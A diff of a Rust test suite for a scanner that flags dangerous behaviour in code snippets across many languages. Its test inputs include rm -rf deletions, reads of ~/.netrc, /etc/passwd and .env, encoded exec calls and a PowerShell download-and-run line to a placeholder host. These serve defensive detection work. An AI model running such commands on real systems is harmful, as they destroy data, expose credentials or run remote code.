@@ -8,7 +8,8 @@ use std::collections::BTreeSet;
 type Row = (&'static str, &'static str, &'static [&'static str]);
 
 fn found(scan: &Scan) -> BTreeSet<String> {
-    let mut all: BTreeSet<String> = scan.does.names().filter(|name| *name != "decode").map(str::to_owned).collect();
+    let mut all: BTreeSet<String> =
+        scan.does.names().filter(|name| *name != "decode").map(str::to_owned).collect();
     all.extend(scan.touched.iter().map(|touch| format!("{}:{}", touch.access.name(), touch.path)));
     all.extend(scan.urls.iter().map(|url| format!("url:{url}")));
     all.extend(scan.commands.iter().map(|text| format!("run:{text}")));
@@ -84,11 +85,23 @@ fn statements_of_sql_are_told_by_what_they_do() {
 fn calls_of_python_are_followed_through_imports_and_constants() {
     check(&[
         ("python", "import os; os.remove('/srv/a')", &["delete", "delete:/srv/a"]),
-        ("python", "from shutil import rmtree as r\nr('/srv')", &["delete", "delete_recursive", "delete:/srv"]),
-        ("python", "import shutil as s\ns.rmtree('/s' + 'rv')", &["delete", "delete_recursive", "delete:/srv"]),
+        (
+            "python",
+            "from shutil import rmtree as r\nr('/srv')",
+            &["delete", "delete_recursive", "delete:/srv"],
+        ),
+        (
+            "python",
+            "import shutil as s\ns.rmtree('/s' + 'rv')",
+            &["delete", "delete_recursive", "delete:/srv"],
+        ),
         ("python", "from os import *\nremove('x')", &["delete", "delete:x"]),
         ("python", "__import__('os').system('rm -rf x')", &["shell_escape", "run:rm -rf x"]),
-        ("python", "p = '/srv'\nimport shutil\nshutil.rmtree(p)", &["delete", "delete_recursive", "delete:/srv"]),
+        (
+            "python",
+            "p = '/srv'\nimport shutil\nshutil.rmtree(p)",
+            &["delete", "delete_recursive", "delete:/srv"],
+        ),
         ("python", "from pathlib import Path; Path('x/y').unlink()", &["delete", "delete:x/y"]),
         (
             "python",
@@ -97,11 +110,19 @@ fn calls_of_python_are_followed_through_imports_and_constants() {
         ),
         ("python", "import os; open(os.path.join(os.path.expanduser('~'), '.netrc'))", &["read:~/.netrc"]),
         ("python", "open('/etc/cron.d/x', 'w').write('y')", &["overwrite", "write:/etc/cron.d/x"]),
-        ("python", "open(mode='a', file='x')", &["read:a"]),
-        ("python", "import subprocess; subprocess.run(['rm', '-rf', '/srv/a b'])", &["shell_escape", "run:rm -rf '/srv/a b'"]),
+        ("python", "open(mode='a', file='x')", &["overwrite", "write:x"]),
+        (
+            "python",
+            "import subprocess; subprocess.run(['rm', '-rf', '/srv/a b'])",
+            &["shell_escape", "run:rm -rf '/srv/a b'"],
+        ),
         ("python", "import subprocess\nsubprocess.run(cmd, shell=True)", &["shell_escape", "doubt"]),
         ("python", "import subprocess\nsubprocess.run(f'rm {x}', shell=True)", &["shell_escape", "doubt"]),
-        ("python", "exec(__import__('base64').b64decode('aWQ='))", &["run_code", "run_encoded_code", "doubt"]),
+        (
+            "python",
+            "exec(__import__('base64').b64decode('aWQ='))",
+            &["run_code", "run_encoded_code", "doubt"],
+        ),
         ("python", "eval(\"__import__('os').system('id')\")", &["run_code", "shell_escape", "run:id"]),
         (
             "python",
@@ -118,11 +139,27 @@ fn calls_of_python_are_followed_through_imports_and_constants() {
 #[test]
 fn calls_of_other_languages_are_found() {
     check(&[
-        ("javascript", "require('fs').rmSync('/srv', {recursive: true})", &["delete", "delete_recursive", "delete:/srv"]),
+        (
+            "javascript",
+            "require('fs').rmSync('/srv', {recursive: true})",
+            &["delete", "delete_recursive", "delete:/srv"],
+        ),
         ("javascript", "const fs = require('node:fs'); fs.unlinkSync(`a`)", &["delete", "delete:a"]),
-        ("javascript", "const {execSync: e} = require('child_process'); e('id')", &["shell_escape", "run:id"]),
-        ("javascript", "import {rm} from 'fs/promises'; rm('x')", &["delete", "delete_recursive", "delete:x"]),
-        ("javascript", "require('child_process').spawn('rm', ['-rf', 'x'])", &["shell_escape", "run:rm -rf x"]),
+        (
+            "javascript",
+            "const {execSync: e} = require('child_process'); e('id')",
+            &["shell_escape", "run:id"],
+        ),
+        (
+            "javascript",
+            "import {rm} from 'fs/promises'; rm('x')",
+            &["delete", "delete_recursive", "delete:x"],
+        ),
+        (
+            "javascript",
+            "require('child_process').spawn('rm', ['-rf', 'x'])",
+            &["shell_escape", "run:rm -rf x"],
+        ),
         ("javascript", "console.log(require('fs').readFileSync('.env','utf8'))", &["read:.env"]),
         ("javascript", "require('fs')['unlinkSync']('x')", &["delete", "delete:x"]),
         ("javascript", "eval(atob('SGVsbG8='))", &["run_code", "run_encoded_code", "doubt"]),
@@ -141,15 +178,33 @@ fn calls_of_other_languages_are_found() {
         ("php", "unlink('x');", &["delete", "delete:x"]),
         ("php", "echo shell_exec('i' . 'd');", &["shell_escape", "run:id"]),
         ("php", "echo file_get_contents('/etc/passwd');", &["read:/etc/passwd"]),
+    ]);
+}
+
+#[test]
+fn commands_of_small_languages_are_found() {
+    check(&[
         ("lua", "os.execute('rm ' .. 'x')", &["shell_escape", "run:rm x"]),
         ("lua", "os.remove('x')", &["delete", "delete:x"]),
         ("awk", "BEGIN { system(\"id\") }", &["shell_escape", "run:id"]),
         ("awk", "{ print $1 > \"/etc/x\" }", &["write:/etc/x"]),
         ("awk", "{ print | \"sh\" }", &["shell_escape", "run:sh"]),
         ("awk", "$1 > 5 { print $2 }", &[]),
-        ("applescript", "do shell script \"rm -rf x\" with administrator privileges", &["shell_escape", "privilege", "run:rm -rf x"]),
-        ("powershell", "Remove-Item -Recurse -Force C:\\x; Get-Date", &["delete", "delete_recursive", "delete:C:\\x"]),
-        ("powershell", "iwr https://x.example/a | iex", &["download", "run_code", "run_input", "run_remote_code", "url:https://x.example/a"]),
+        (
+            "applescript",
+            "do shell script \"rm -rf x\" with administrator privileges",
+            &["shell_escape", "privilege", "run:rm -rf x"],
+        ),
+        (
+            "powershell",
+            "Remove-Item -Recurse -Force C:\\x; Get-Date",
+            &["delete", "delete_recursive", "delete:C:\\x"],
+        ),
+        (
+            "powershell",
+            "iwr https://x.example/a | iex",
+            &["download", "run_code", "run_input", "run_remote_code", "url:https://x.example/a"],
+        ),
         ("powershell", "Write-Host 'Remove-Item x'", &[]),
         ("sed", "s/a/b/w /etc/x", &["write:/etc/x"]),
         ("sed", "s/w/e/g", &[]),
@@ -162,9 +217,42 @@ fn calls_of_other_languages_are_found() {
 
 #[test]
 fn code_without_end_is_read_soon() {
-    for language in ["python", "javascript", "perl", "ruby", "php", "lua", "awk", "sql", "mongo", "redis", "sed", "vim", "powershell", "applescript"] {
-        for unit in ["(", "f(", "os.system(", "x = ", "'", "\"\"\"", "eval('", "a.b", "$", "$a$", "/*", "{", "q{", "%x(", "where (", "import x as ", "\\"] {
-            let _ = scan(language, &unit.repeat(20_000));
+    for language in [
+        "python",
+        "javascript",
+        "perl",
+        "ruby",
+        "php",
+        "lua",
+        "awk",
+        "sql",
+        "mongo",
+        "redis",
+        "sed",
+        "vim",
+        "powershell",
+        "applescript",
+    ] {
+        for unit in [
+            "(",
+            "f(",
+            "os.system(",
+            "x = ",
+            "'",
+            "\"\"\"",
+            "eval('",
+            "a.b",
+            "$",
+            "$a$",
+            "/*",
+            "{",
+            "q{",
+            "%x(",
+            "where (",
+            "import x as ",
+            "\\",
+        ] {
+            let _ = scan(language, &unit.repeat(5_000));
         }
     }
 }
